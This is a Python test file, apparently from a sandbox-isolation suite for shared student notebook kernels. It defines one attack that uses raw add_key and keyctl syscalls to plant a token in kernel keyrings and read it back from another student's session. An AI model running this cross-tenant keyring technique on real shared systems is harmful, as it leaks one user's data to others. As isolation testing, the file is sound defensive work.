"""Puts a key into every keyring of the kernel that it can name; the next student's kernel looks for it there."""

from tests.attacks import Attack

attack = Attack(
    gains="stay",
    cell="""
import ctypes, platform
assert platform.machine() == 'x86_64'  # the numbers of its system calls
libc = ctypes.CDLL(None, use_errno=True)
text = $TOKEN.encode()
for ring in (-1, -2, -3, -4, -5):
    print(ring, libc.syscall(248, b"user", b"answers-$VICTIM", text, ctypes.c_size_t(len(text)), ring))
""",
    then="""
import ctypes, platform
assert platform.machine() == 'x86_64'  # the numbers of its system calls
libc = ctypes.CDLL(None, use_errno=True)
for ring in (-3, -4, -5):
    key = libc.syscall(250, 10, ring, b"user", b"answers-$VICTIM", 0)
    if key > 0:
        room = ctypes.create_string_buffer(100)
        libc.syscall(250, 11, key, room, ctypes.c_size_t(100))
        print("found", room.value.decode())
""",
    works="nowhere",
    why="many systems allow no keyrings inside a container, and so give nothing to compare with",
)
